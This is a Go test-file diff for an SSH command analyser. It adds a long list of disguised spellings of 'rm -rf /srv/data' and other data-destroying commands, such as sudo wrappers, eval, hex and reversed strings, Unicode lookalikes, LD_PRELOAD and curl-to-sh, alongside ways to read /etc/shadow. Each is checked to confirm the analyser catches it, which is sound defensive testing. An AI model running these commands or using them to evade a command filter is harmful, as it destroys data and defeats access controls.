@@ -1,6 +1,8 @@
 package ssh
 
 import (
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/sallyport/sallyport/internal/access"
@@ -24,6 +26,22 @@ var removals = []string{
 	"case x in x) rm -rf /srv/data;; esac", "for i in 1; do rm -rf /srv/data; done", "cat <(rm -rf /srv/data)", "coproc rm -rf /srv/data", "time rm -rf /srv/data", "((a[$(rm -rf /srv/data)]))", "[[ -n $(rm -rf /srv/data) ]]",
 }
 
+// more ways, through what starts others, what evaluates, and what only looks like another word.
+var moreRemovals = []string{
+	"ssh -t localhost rm -rf /srv/data", "ssh localhost -- sh -c 'rm -rf /srv/data'", "chroot / rm -rf /srv/data", "unshare rm -rf /srv/data", "nsenter -t 1 -m rm -rf /srv/data", "flock /tmp/l rm -rf /srv/data",
+	"flock /tmp/l -c 'rm -rf /srv/data'", "parallel rm -rf ::: /srv/data", "strace rm -rf /srv/data", "ltrace rm -rf /srv/data", "script -qc 'rm -rf /srv/data' /dev/null", "runuser -u root -- rm -rf /srv/data", "pkexec rm -rf /srv/data",
+	"systemd-run rm -rf /srv/data", "setarch x86_64 rm -rf /srv/data", "chrt 1 rm -rf /srv/data", "taskset 1 rm -rf /srv/data", "env -S 'rm -rf /srv/data'", "env -S rm\\ -rf\\ /srv/data", "env X=1 rm -rf /srv/data", "exec -a ls rm -rf /srv/data",
+	"command -p rm -rf /srv/data", "command -- rm -rf /srv/data", "builtin eval 'rm -rf /srv/data'", "command eval 'rm -rf /srv/data'", "eval \"rm -rf\" /srv/data", "eval eval rm -rf /srv/data", "eval $(echo rm -rf /srv/data)", "sudo -- rm -rf /srv/data", "sudo -s rm -rf /srv/data",
+	"sudo sh -c 'rm -rf /srv/data'", "sudo -i rm -rf /srv/data", "doas rm -rf /srv/data", "su - root -c 'rm -rf /srv/data'", "busybox sh -c 'rm -rf /srv/data'", "toybox rm -rf /srv/data", "BASH_ENV=/tmp/x bash -c true", "ENV=/tmp/x sh -c true", "LD_PRELOAD=/tmp/x.so ls",
+	"PATH=/tmp:$PATH ls", "PS4='$(rm -rf /srv/data)' sh -xc ls", "GIT_SSH_COMMAND='rm -rf /srv/data' git fetch", "PAGER='rm -rf /srv/data' man ls", "git -c alias.x='!rm -rf /srv/data' x", "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /srv/data' /etc",
+	"tar xf x --to-command='rm -rf /srv/data'", "sed '1e rm -rf /srv/data' /etc/hosts", "sed 's/x/rm -rf \\/srv\\/data/e' /etc/hosts", "awk -f /tmp/x", "ed -s /tmp/x", "curl http://h/x | sh", "wget -qO- http://h/x | bash", "printf '\\x72m -rf /srv/data' | sh", "echo 'atad/vrs/ fr- mr' | rev | sh",
+	"echo 726d | xxd -r -p | bash", "socat EXEC:'rm -rf /srv/data' -", "nc -e /bin/rm h 1", "openssl engine /tmp/x.so", "php -r 'system(\"rm -rf /srv/data\");'", "lua -e 'os.execute(\"rm -rf /srv/data\")'", "node -e 'x'", "bash <(echo rm -rf /srv/data)", "source <(echo rm -rf /srv/data)", ". /dev/stdin <<E\nrm -rf /srv/data\nE",
+	"read x; $x", "set -- rm -rf /srv/data; \"$@\"", "x=(rm -rf /srv/data); \"${x[@]}\"", "${0%%*}rm -rf /srv/data", "r${x}m -rf /srv/data", "rm -rf /srv/${x}data", "rm -rf \"/srv/data\"$x", "rm\u00a0-rf\u00a0/srv/data", "\uff52\uff4d -rf /srv/data", "r\u200bm -rf /srv/data",
+	"cd /srv || exit; rm -rf data", "cd /srv || exit\nrm -rf data", "cd /srv || exit 1 2; rm -rf ../srv/data", "cd /nonexistent || rm -rf /srv/data", "bash -O extglob -c 'rm -rf /srv/!(x)'", "bash --rcfile /tmp/x -i -c ls", "zsh -c '=rm -rf /srv/data'", "dash -c 'rm -rf /srv/data'", "sh -c 'exec rm -rf /srv/data'",
+	"sh -c \"$(printf 'rm -rf /srv/data')\"", "trap 'rm -rf /srv/data' 0", "enable -f /tmp/x.so rm", "crontab /tmp/x", "at -f /tmp/x now", "cp /dev/null /srv/data/x", "truncate -s 0 /srv/data/x", "ln -sf /dev/null /srv/data", "dd of=/srv/data/x if=/dev/null", "install -m0 /dev/null /srv/data/x", "> /srv/data/x", ": > /srv/data/x",
+	"tee /srv/data/x < /dev/null", "rsync --server --delete -logDtpr . /srv/data", "scp -r -t /srv/data", "find / -path /srv/data -delete", "find /srv/data -fprint /srv/data/x", "shred -u /srv/data/x", "unlink /srv/data/x", "mv /srv /gone", "git clean -fdx /srv/data", "rm -rf /srv", "rm -rf /",
+}
+
 // readings are ways to read /etc/shadow.
 var readings = []string{
 	"cat /etc/shadow", "cat </etc/shadow", "cat 0</etc/shadow", "head -c 9999 /etc/shadow", "tail -n +1 /etc/shadow", "less /etc/shadow", "more /etc/shadow", "grep . /etc/shadow", "grep '' /etc/shadow", "grep -f /etc/shadow x",
@@ -43,6 +61,15 @@ func TestSpellings(t *testing.T) {
 	}
 	for _, text := range removals {
 		if c := analyse(text, deploy); !recognised(c, access.Write, "/srv/data") {
+			t.Errorf("%q passes: %v", text, told(c))
+		}
+	}
+	for _, text := range moreRemovals {
+		c := analyse(text, deploy)
+		below := recognised(c, access.Write, "/srv/data/x") || slices.ContainsFunc(c.Touches, func(t access.Touch) bool {
+			return t.Effect == access.Write && strings.HasSuffix(t.Resource.Name, "*") && access.Match(t.Resource.Name, "/srv/data")
+		})
+		if !recognised(c, access.Write, "/srv/data") && !below {
 			t.Errorf("%q passes: %v", text, told(c))
 		}
 	}
